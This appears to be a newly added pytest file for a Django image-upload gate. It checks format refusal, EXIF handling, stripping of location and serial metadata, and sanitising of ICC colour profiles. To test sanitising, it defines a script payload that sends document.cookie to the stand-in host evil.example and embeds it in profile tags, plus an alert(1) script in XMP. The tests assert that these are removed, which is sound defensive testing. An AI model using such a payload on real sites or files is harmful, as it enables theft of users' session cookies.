@@ -1,0 +1,307 @@
+"""The gate itself: what it refuses, what it turns a file into, and that nothing passes by it."""
+
+import io
+import logging
+import struct
+
+import pytest
+from django.core.files.base import ContentFile, File
+from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image, ImageCms
+
+from portfolio.images.gate import (
+    DAMAGED_OR_UNSUPPORTED,
+    PreparedPicture,
+    UploadRejected,
+    prepare_upload,
+)
+from portfolio.images.icc import MAX_PROFILE_BYTES
+from portfolio.models import Picture
+from tests.helpers import (
+    damaged_exif,
+    exif_with_location,
+    image_bytes,
+    make_project,
+    multi_picture_jpeg,
+    open_stored_image,
+    read_stored,
+    stored_files,
+)
+
+
+def judged(content: bytes, name: str = "photo") -> PreparedPicture:
+    return prepare_upload(SimpleUploadedFile(name, content))
+
+
+def opened(prepared: PreparedPicture) -> Image.Image:
+    image = Image.open(io.BytesIO(prepared.read()))
+    image.load()
+    return image
+
+
+# Files that crashed the check -------------------------------------------------------------
+
+
+def test_multi_picture_jpeg_is_stored_as_its_first_picture_as_jpeg():
+    prepared = judged(multi_picture_jpeg((64, 48)))
+
+    assert prepared.name == "picture.jpg"
+    image = opened(prepared)
+    assert image.format == "JPEG"
+    assert getattr(image, "n_frames", 1) == 1
+    assert image.size == (64, 48)
+    red, green, blue = image.getpixel((32, 24))
+    assert red > 180 and blue < 80  # The first picture, the red one.
+
+
+DAMAGED_EXIF = [
+    # Rewriting it after turning raised struct.error in exif_transpose.
+    pytest.param(damaged_exif(), (24, 32), id="struct"),
+    # Not a TIFF structure at all: SyntaxError.
+    pytest.param(b"garbage, not a TIFF header", (32, 24), id="not-tiff"),
+]
+
+
+@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
+@pytest.mark.parametrize(("exif", "stored_size"), DAMAGED_EXIF)
+def test_damaged_exif_is_read_defensively_and_the_picture_kept(image_format, exif, stored_size):
+    if image_format == "JPEG":
+        exif = b"Exif\x00\x00" + exif
+
+    image = opened(judged(image_bytes(image_format, (32, 24), exif=exif)))
+
+    assert image.size == stored_size  # Turned when the orientation could still be read.
+    assert "exif" not in image.info
+
+
+def test_any_error_while_judging_refuses_the_file_and_logs_it(caplog):
+    upload = SimpleUploadedFile("photo.jpg", image_bytes("JPEG"))
+    upload.file.close()  # Gone under us, as a file can be: reading it raises ValueError.
+
+    with caplog.at_level(logging.WARNING), pytest.raises(UploadRejected) as refusal:
+        prepare_upload(upload)
+
+    assert refusal.value.reason == DAMAGED_OR_UNSUPPORTED
+    [record] = [record for record in caplog.records if record.name == "portfolio.images.gate"]
+    assert "photo.jpg" in record.getMessage()
+    assert record.exc_info and record.exc_info[0] is ValueError
+
+
+# The model API and commands pass the gate ------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (image_bytes("BMP"), "BMP is not accepted"),
+        (image_bytes("TIFF"), "TIFF is not accepted"),
+        (b"%PDF-1.7\n%%EOF\n", "PDF is not accepted"),
+        (b"just some text", "not an image"),
+    ],
+)
+def test_add_picture_refuses_what_the_upload_form_refuses(content, reason):
+    project = make_project()
+
+    with pytest.raises(UploadRejected, match=reason):
+        project.add_picture(ContentFile(content, name="photo.jpg"))
+
+    assert not Picture.objects.exists()
+    assert stored_files() == set()
+
+
+@pytest.mark.django_db
+def test_add_picture_stores_a_phone_photo_without_its_location():
+    project = make_project()
+    photo = image_bytes("JPEG", (60, 40), exif=exif_with_location(orientation=6))
+
+    picture = project.add_picture(ContentFile(photo, name="IMG_0001.jpg"))
+
+    assert (picture.width, picture.height) == (40, 60)
+    stored = read_stored(picture.photo.name)
+    assert b"Exif" not in stored and b"SERIAL-12345" not in stored and b"PhoneMaker" not in stored
+
+
+@pytest.mark.django_db
+def test_saving_a_photo_through_the_model_passes_the_gate():
+    picture = Picture(project=make_project())
+
+    picture.photo.save("stereo.jpg", ContentFile(multi_picture_jpeg()), save=True)
+
+    with open_stored_image(picture.photo.name) as stored:
+        assert stored.format == "JPEG"
+        assert getattr(stored, "n_frames", 1) == 1
+    with pytest.raises(UploadRejected, match="BMP is not accepted"):
+        Picture(project=picture.project).photo.save("old.bmp", ContentFile(image_bytes("BMP")))
+    assert stored_files() == {picture.photo.name}
+
+
+@pytest.mark.django_db
+def test_a_file_assigned_then_saved_passes_the_gate_and_is_named_by_its_content():
+    picture = Picture(project=make_project())
+    picture.photo = File(io.BytesIO(image_bytes("PNG", exif=exif_with_location())), "lies.jpg")
+
+    picture.save()
+
+    assert picture.photo.name.endswith(".png")
+    assert b"SERIAL-12345" not in read_stored(picture.photo.name)
+
+
+@pytest.mark.django_db
+def test_a_prepared_picture_is_stored_as_it_is_never_judged_twice():
+    prepared = judged(image_bytes("JPEG", (64, 48), quality=30))
+    picture = Picture(project=make_project())
+
+    picture.photo.save("photo.jpg", prepared, save=True)
+
+    assert read_stored(picture.photo.name) == prepared.open().read()
+
+
+# What is kept of a colour profile ---------------------------------------------------------
+
+
+def s15(value: float) -> int:
+    return round(value * 65536)
+
+
+def xyz(x: float, y: float, z: float) -> bytes:
+    return b"XYZ \0\0\0\0" + struct.pack(">3i", s15(x), s15(y), s15(z))
+
+
+def text_tag(text: str, version: int) -> bytes:
+    if version >= 4:
+        utf16 = text.encode("utf-16-be")
+        header = struct.pack(">II2s2sII", 1, 12, b"en", b"US", len(utf16), 28)
+        return b"mluc\0\0\0\0" + header + utf16
+    ascii_text = text.encode("ascii") + b"\0"
+    return b"desc\0\0\0\0" + struct.pack(">I", len(ascii_text)) + ascii_text + b"\0" * 78
+
+
+def icc_profile(tags: dict[bytes, bytes], version: int = 4) -> bytes:
+    """An RGB display profile with these tags, laid out as the ICC specification says."""
+    directory_end = 128 + 4 + 12 * len(tags)
+    entries, body = b"", b""
+    for signature, data in tags.items():
+        entries += struct.pack(">4sII", signature, directory_end + len(body), len(data))
+        body += data + b"\0" * (-len(data) % 4)
+    d50 = struct.pack(">3i", s15(0.9642), s15(1.0), s15(0.8249))
+    header = struct.pack(
+        ">I4x4s4s4s4s12x4s24xI12s48x",
+        directory_end + len(body),
+        bytes([version, 0x20 if version < 4 else 0x40, 0, 0]),
+        b"mntr",
+        b"RGB ",
+        b"XYZ ",
+        b"acsp",
+        0,
+        d50,
+    )
+    return header + struct.pack(">I", len(tags)) + entries + body
+
+
+PAYLOAD = "<html><script>fetch('//evil.example/?c='+document.cookie)</script></html>"
+GAMMA = b"para\0\0\0\0" + struct.pack(">H2xi", 0, s15(2.2))
+# Display P3's primaries, adapted to D50 as profiles store them.
+P3_RED = (0.5151, 0.2412, -0.0011)
+P3_GREEN = (0.2920, 0.6922, 0.0419)
+P3_BLUE = (0.1571, 0.0666, 0.7841)
+
+
+def display_p3_like(version: int = 4, extra: dict[bytes, bytes] | None = None) -> bytes:
+    """Display P3's primaries, and text where a hostile profile would put it."""
+    return icc_profile(
+        {
+            b"desc": text_tag(f"Display P3 {PAYLOAD}", version),
+            b"cprt": text_tag(PAYLOAD, version),
+            b"wtpt": xyz(0.9642, 1.0, 0.8249),
+            b"rXYZ": xyz(*P3_RED),
+            b"gXYZ": xyz(*P3_GREEN),
+            b"bXYZ": xyz(*P3_BLUE),
+            b"rTRC": GAMMA,
+            b"gTRC": GAMMA,
+            b"bTRC": GAMMA,
+            b"zzzz": PAYLOAD.encode() * 4,
+            **(extra or {}),
+        },
+        version,
+    )
+
+
+def parsed(profile: bytes) -> ImageCms.ImageCmsProfile:
+    return ImageCms.ImageCmsProfile(io.BytesIO(profile))
+
+
+@pytest.mark.parametrize("version", [2, 4])
+@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP", "AVIF"])
+def test_a_display_p3_profile_is_kept_rebuilt_from_its_colour_tags_only(image_format, version):
+    profile = display_p3_like(version)
+    assert len(profile) < MAX_PROFILE_BYTES and parsed(profile)  # A sane profile.
+
+    prepared = judged(image_bytes(image_format, icc_profile=profile))
+
+    kept = parsed(opened(prepared).info["icc_profile"]).profile
+    assert kept.red_colorant[0] == pytest.approx(P3_RED, abs=0.001)
+    assert kept.green_colorant[0] == pytest.approx(P3_GREEN, abs=0.001)
+    assert kept.blue_colorant[0] == pytest.approx(P3_BLUE, abs=0.001)
+    description = kept.profile_description.strip()
+    assert description.startswith("Display P3 ")
+    assert description.replace(" ", "").isalnum() and len(description) <= 64
+    stored = prepared.open().read()
+    assert b"<script>" not in stored and b"evil.example" not in stored
+    assert "<script>".encode("utf-16-be") not in stored
+
+
+@pytest.mark.parametrize(
+    ("image_format", "profile"),
+    [
+        # The 16 MB profile on a 64×48 picture the issue saw kept verbatim.
+        pytest.param(
+            "JPEG", display_p3_like(extra={b"zzzz": PAYLOAD.encode() * 220_000}), id="16-mb-jpeg"
+        ),
+        pytest.param(
+            "PNG", display_p3_like(extra={b"zzzz": b"x" * MAX_PROFILE_BYTES}), id="over-64-kb-png"
+        ),
+    ],
+)
+def test_an_oversized_profile_is_applied_to_the_pixels_and_not_kept(image_format, profile):
+    assert len(profile) > MAX_PROFILE_BYTES
+    p3_green = (40, 200, 60)
+    expected = ImageCms.profileToProfile(
+        Image.new("RGB", (1, 1), p3_green),
+        parsed(display_p3_like()),
+        ImageCms.createProfile("sRGB"),
+    ).getpixel((0, 0))
+
+    colour = p3_green + (255,) if image_format == "PNG" else p3_green
+    prepared = judged(image_bytes(image_format, (64, 48), color=colour, icc_profile=profile))
+
+    image = opened(prepared)
+    assert "icc_profile" not in image.info
+    assert prepared.size < 10_000
+    assert image.getpixel((0, 0))[:3] == pytest.approx(expected, abs=2)
+    assert expected != p3_green
+    assert b"<script>" not in prepared.open().read()
+
+
+def test_a_profile_that_does_not_parse_is_dropped_and_the_picture_kept():
+    prepared = judged(image_bytes("JPEG", icc_profile=b"<html>not a profile</html>" * 20))
+
+    image = opened(prepared)
+    assert "icc_profile" not in image.info
+    assert b"<html>" not in prepared.open().read()
+
+
+def test_gps_and_text_never_survive_into_the_stored_file():
+    text = b"<x:xmpmeta>Home address, <script>alert(1)</script></x:xmpmeta>"
+    photo = image_bytes(
+        "JPEG",
+        exif=exif_with_location(),
+        icc_profile=display_p3_like(),
+        comment=b"taken at home <b>here</b>",
+        xmp=text,
+    )
+
+    stored = judged(photo).open().read()
+
+    for secret in [b"Exif", b"SERIAL-12345", b"PhoneMaker", b"Home address", b"<b>", b"script"]:
+        assert secret not in stored
